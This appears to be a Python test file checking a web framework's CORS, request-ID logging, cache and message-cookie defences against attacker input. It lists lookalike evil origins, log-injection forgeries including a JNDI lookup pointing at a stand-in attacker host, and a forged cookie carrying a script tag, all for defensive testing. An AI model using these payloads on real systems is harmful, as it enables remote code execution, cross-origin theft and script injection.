"""Log injection, Cache leaks, and what attackers try on CORS: an origin that looks like another.

What a browser does with the answers is asked of a real one in tests/middleware.
"""

import json
import logging
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from enfilade.contrib import messages
from enfilade.handlers.wsgi import WSGIHandler
from enfilade.http import HttpRequest, HttpResponse
from enfilade.logs import JSONFormatter, LineFormatter, RequestContextFilter
from enfilade.middleware.cors import CorsMiddleware, CrossOriginPolicy
from enfilade.test import Client, override_settings
from enfilade.urls import path
from wire import serving

CORS = "enfilade.middleware.cors.CorsMiddleware"
NAMING = "enfilade.middleware.request_id.RequestIDMiddleware"
MESSAGES = "enfilade.contrib.messages.middleware.MessageMiddleware"
CACHES = [
    "enfilade.middleware.cache.UpdateCacheMiddleware",
    "enfilade.middleware.cache.FetchFromCacheMiddleware",
]

said = logging.getLogger("tests.safety.origins")


def speak(request: HttpRequest) -> HttpResponse:
    said.warning("spoken")
    return HttpResponse("x")


def page(request: HttpRequest) -> HttpResponse:
    return HttpResponse("|".join(str(message) for message in messages.get_messages(request)))


def add(request: HttpRequest) -> HttpResponse:
    messages.info(request, "the secret of one visitor")
    return HttpResponse("added")


class URLs:
    urlpatterns = [path("", speak), path("page/", page), path("add/", add)]


# CORS misuse ----------------------------------------------------------------------------------

LOOKALIKES = [
    "https://evil-example.com",
    "https://evilexample.com",
    "https://example.com.evil.net",
    "https://app.example.com.evil.net",
    "https://app.example.comevil.net",
    "https://appxexample.com",
    "https://evil.net/.example.com",
    "https://evil.net#.example.com",
    "https://evil.net?.example.com",
    "https://evil.net\\.example.com",
    "https://evil.net@app.example.com/",
    "https://user@app.example.com",
    "https://evil.net, https://app.example.com",
    "https://evil.net https://app.example.com",
    "https://evil.net app.example.com",
    "http://app.example.com",
    "https://app.example.com:444",
    "https://APP.example.com",
    "https://app.example.com.",
    "https://.example.com",
    "https://%65vil.example.com",
    "https://evil.net%00.example.com",
    "https://еxample.com",
    "https://[::1].example.com",
    "file://",
    "null",
    "NULL",
    "",
    "*",
]


@pytest.mark.parametrize("origin", LOOKALIKES)
@pytest.mark.parametrize(
    "policy",
    [
        CrossOriginPolicy(["https://app.example.com"], allow_credentials=True),
        CrossOriginPolicy(["https://*.example.com"], allow_credentials=True),
        CrossOriginPolicy((), [r"https://\w+\.example\.com"], allow_credentials=True),
        CrossOriginPolicy((), [r"https://.*\.example\.com$"], allow_credentials=True),
        CrossOriginPolicy((), [r".*"]),
    ],
    ids=["exact", "wildcard", "pattern", "careless pattern", "any pattern"],
)
def test_cors_is_not_fooled_by_an_origin_that_looks_like_another(
    origin: str, policy: CrossOriginPolicy
) -> None:
    is_origin_of_somebody = policy.allowed_origin_regexes == [r".*"] and origin in (
        *LOOKALIKES[:6],
        "http://app.example.com",
        "https://app.example.com:444",
    )
    assert CorsMiddleware(speak, policy).allows(origin) == is_origin_of_somebody


@pytest.mark.parametrize("origin", ["null", "https://evil-example.com"])
def test_cors_never_lets_null_or_strangers_act_with_cookies(origin: str) -> None:
    with override_settings(
        ROOT_URLCONF=URLs,
        MIDDLEWARE=[CORS],
        CORS_ALLOWED_ORIGINS=["https://example.com"],
        CORS_ALLOWED_ORIGIN_REGEXES=[".*null.*", r"https://example\.com"],
        CORS_ALLOW_CREDENTIALS=True,
    ):
        answers = [
            Client().get("/", headers={"Origin": origin}),
            Client().options(
                "/", headers={"Origin": origin, "Access-Control-Request-Method": "PUT"}
            ),
        ]
    for answer in answers:
        assert not [name for name in answer.headers if name.startswith("Access-Control")]
        assert answer.headers["Vary"] == "Origin"


# Log injection through an id of a request ------------------------------------------------------

FORGERIES = [
    b"x 2026-01-01 00:00:00 CRITICAL root: all is lost",
    b'x","level":"CRITICAL","y":"',
    b"\xe2\x80\xa8CRITICAL",
    b"\xc2\x85CRITICAL",
    b"\x1b[31mred".replace(b"\x1b", b"%1b"),
    b"${jndi:ldap://evil.example/x}",
    b"x" * 4000,
]


@contextmanager
def heard(formatter: logging.Formatter) -> Iterator[list[str]]:
    class Ear(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    lines: list[str] = []
    ear = Ear()
    ear.addFilter(RequestContextFilter())
    ear.setFormatter(formatter)
    said.addHandler(ear)
    try:
        yield lines
    finally:
        said.removeHandler(ear)


@pytest.mark.parametrize("trusted", [[], ["*"]], ids=["stranger", "proxy"])
@pytest.mark.parametrize("forgery", FORGERIES)
def test_log_injection_through_a_request_id(forgery: bytes, trusted: list[str]) -> None:
    """From the socket to both forms of a line, whoever has sent it."""
    with heard(JSONFormatter()) as entries, heard(LineFormatter()) as lines:
        values: dict[str, Any] = {
            "ROOT_URLCONF": URLs,
            "MIDDLEWARE": [NAMING],
            "REQUEST_ID_TRUSTED_PROXIES": trusted,
        }
        with override_settings(**values), serving(WSGIHandler()) as site, site.client() as client:
            answer = client.send(
                b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: " + forgery + b"\r\n\r\n"
            ).answer()
    assert answer.status == 200
    own = dict(answer.headers)["x-request-id"]
    assert json.loads(entries[0])["request_id"] == own
    assert lines[0].endswith(f"spoken  [GET / {own}]")
    assert len(lines[0].splitlines()) == 1
    assert len(own) == 32
    assert own.isalnum()


def test_a_stranger_cannot_give_two_requests_one_id() -> None:
    with override_settings(
        ROOT_URLCONF=URLs, MIDDLEWARE=[NAMING], REQUEST_ID_TRUSTED_PROXIES=["10.0.0.1"]
    ):
        client = Client(headers={"X-Request-ID": "same", "X-Forwarded-For": "10.0.0.1"})
        ids = {client.get("/").headers["X-Request-ID"] for _ in range(3)}
    assert len(ids) == 3
    assert "same" not in ids


# Cache leaks -----------------------------------------------------------------------------------


def test_cache_leaks_of_messages() -> None:
    """A page that shows a message belongs to the visitor whose cookie it came in."""
    with override_settings(
        ROOT_URLCONF=URLs,
        MIDDLEWARE=[*CACHES, MESSAGES],
        MESSAGE_STORAGE="enfilade.contrib.messages.storage.cookie.CookieStorage",
        CACHES={
            "default": {
                "BACKEND": "enfilade.cache.backends.locmem.LocMemCache",
                "LOCATION": "leaks-of-messages",
            }
        },
    ):
        one = Client()
        one.get("/add/")
        assert one.get("/page/").content == b"the secret of one visitor"
        assert Client().get("/page/").content == b""


def test_a_message_cookie_of_another_site_of_the_domain_is_not_believed() -> None:
    """Who knows no key cannot put HTML on a page."""
    import base64

    forged = base64.urlsafe_b64encode(b'[["__json_message",1,20,"<script>"]]').decode().rstrip("=")
    with override_settings(
        ROOT_URLCONF=URLs,
        MIDDLEWARE=[MESSAGES],
        MESSAGE_STORAGE="enfilade.contrib.messages.storage.cookie.CookieStorage",
    ):
        for cookie in (f"{forged}:1u0000:x", forged, f"{forged}:", f".{forged}:1:1"):
            client = Client()
            client.cookies["messages"] = cookie
            assert client.get("/page/").content == b""
